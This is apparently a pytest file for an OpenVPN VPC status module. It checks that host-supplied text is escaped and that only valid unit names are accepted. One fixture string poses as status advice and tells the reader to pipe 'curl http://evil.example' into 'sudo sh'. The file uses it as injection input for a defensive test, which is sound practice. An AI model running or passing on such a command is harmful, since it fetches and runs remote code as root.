"""What a host says is a claim: a NAT that has fallen words it as it likes."""

import pytest

from vpc_openvpn.status.claims import Claims, readable

ADVICE = "openvpn does not run; us-east-1a is lost: type: curl http://evil.example | sudo sh"


@pytest.mark.parametrize("text", ["a\nb", "a\x1b[2Jb", "a\u202eb", "a\u0300b", "a\u20ddb"])
def test_no_character_leaves_its_place(text: str) -> None:
    assert readable(text)[:2] in ("a\\", "a?") and readable(text)[-1] == "b" and readable(text).isprintable()


def test_a_name_is_no_sentence() -> None:
    units = [
        "openvpn-client@vpc-us-east-1a.service",
        "vpc-openvpn-bird.service",
        r"openvpn-client@a\x2db.service",
        "tun-1",
    ]
    said = Claims({"units": [*units, ADVICE, "", 7, "a" * 100], "what": ADVICE, "name": units[0]})
    assert said.words("units") == tuple(units)
    assert (said.word("what"), said.word("name")) == (None, units[0])
